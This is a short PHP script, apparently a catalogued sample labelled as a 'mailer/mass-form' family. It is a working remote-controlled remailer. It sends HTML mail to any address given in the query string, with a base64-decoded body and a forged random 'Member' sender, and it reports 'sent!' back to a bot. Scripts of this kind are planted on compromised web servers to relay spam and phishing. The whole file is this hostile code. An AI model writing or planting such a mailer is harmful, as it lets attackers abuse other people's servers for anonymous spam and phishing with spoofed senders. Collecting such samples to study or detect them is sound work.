<?php
/* Family: mailer/mass-form
 * Style: GET-driven remailer, one message per request
 * Trait: recipient taken from the query string through a variable, spoofed literal From with a random number, "sent" reply for the bot
 */
if (!empty($_GET['go'])) {
	$target = trim($_GET['rcpt']);
	$title  = 'Notice ' . $_GET['ref'];
	$hh  = "From: Member" . rand(10, 9999) . "@social-demo.test\n";
	$hh .= "MIME-Version: 1.0\n";
	$hh .= "Content-Type: text/html\n";
	if (mail($target, $title, base64_decode($_GET['m']), $hh)) echo 'sent!';
}
